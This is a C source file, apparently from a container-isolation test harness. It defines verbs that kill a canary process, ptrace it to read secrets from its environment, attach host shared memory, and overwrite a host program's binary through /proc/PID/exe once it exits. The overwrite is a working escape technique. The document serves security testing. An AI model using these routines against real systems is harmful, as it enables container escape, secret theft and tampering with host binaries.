/* Other people's processes and memory. */
#include <errno.h>
#include <fcntl.h>
#include <signal.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/ipc.h>
#include <sys/ptrace.h>
#include <sys/shm.h>
#include <sys/stat.h>
#include <sys/wait.h>
#include <time.h>
#include <unistd.h>

#include "gym.h"

/* PID: kill the canary. */
static int kill_it(char **words)
{
    return kill(atoi(words[0]), SIGKILL) ? denied("kill") : got("it");
}

/* PID NAME: attach to the canary, and read a secret that only its environment holds. */
static int trace(char **words)
{
    char path[64];
    pid_t pid = atoi(words[0]);
    if (ptrace(PTRACE_ATTACH, pid, 0, 0))
        return denied("ptrace");
    waitpid(pid, NULL, __WALL);
    snprintf(path, sizeof path, "/proc/%d/environ", pid);
    int fd = open(path, O_RDONLY);
    int code = fd < 0 ? denied(path) : show(fd);
    ptrace(PTRACE_DETACH, pid, 0, 0);
    return code;
}

/* KEY: attach a shared memory segment of the host's, print it. */
static int shared_memory(char **words)
{
    int id = shmget((key_t)strtol(words[0], NULL, 10), 0, 0);
    char *at = id < 0 ? (char *)-1 : shmat(id, NULL, SHM_RDONLY);
    if (at == (char *)-1)
        return denied("shm");
    return got(at);
}

/* Tell whether a process may be attacked: in the host's own PID namespace only the canary may. */
static int permitted(pid_t pid, pid_t canary)
{
    struct stat first, own;
    if (pid == getpid() || pid == 1)
        return 0;
    if (!stat("/proc/1/exe", &first) && !stat("/proc/self/exe", &own) && first.st_ino == own.st_ino &&
        first.st_dev == own.st_dev)
        return 1;
    return pid == canary;
}

/* CANARY: for a second, hold on to the program of whoever comes into sight, and overwrite it once it has ended.
 * Programs of the image itself (busybox, this one) aren't meant: they are on the container's own file system. */
static int overwrite(char **words)
{
    struct timespec begin, now;
    struct stat own, it;
    char path[64];
    int found = 0, told = EPERM;
    stat("/", &own);
    puts("up");
    fflush(stdout);
    clock_gettime(CLOCK_MONOTONIC, &begin);
    do {
        clock_gettime(CLOCK_MONOTONIC, &now);
        for (pid_t pid = 2; pid < 400; pid++) {
            snprintf(path, sizeof path, "/proc/%d/exe", pid);
            int held = permitted(pid, atoi(words[0])) ? open(path, O_PATH) : -1;
            if (held < 0)
                continue;
            if (fstat(held, &it) || it.st_dev == own.st_dev) {
                close(held);
                continue;
            }
            found = 1;
            if (pid == atoi(words[0]))
                kill(pid, SIGKILL);
            snprintf(path, sizeof path, "/proc/self/fd/%d", held);
            for (int i = 0; i < 200; i++) {
                int fd = open(path, O_WRONLY | O_APPEND);
                if (fd >= 0 && write(fd, "owned\n", 6) == 6)
                    return got("a program of the host");
                told = errno;
                if (errno != ETXTBSY)
                    break;
                usleep(1000);
            }
            close(held);
        }
    } while (now.tv_sec - begin.tv_sec < 1);
    errno = found ? told : ESRCH;
    return denied("every program");
}

const struct verb process_verbs[] = {
    {"kill", 1, kill_it},
    {"trace", 1, trace},
    {"shm", 1, shared_memory},
    {"overwrite", 1, overwrite},
    {0},
};
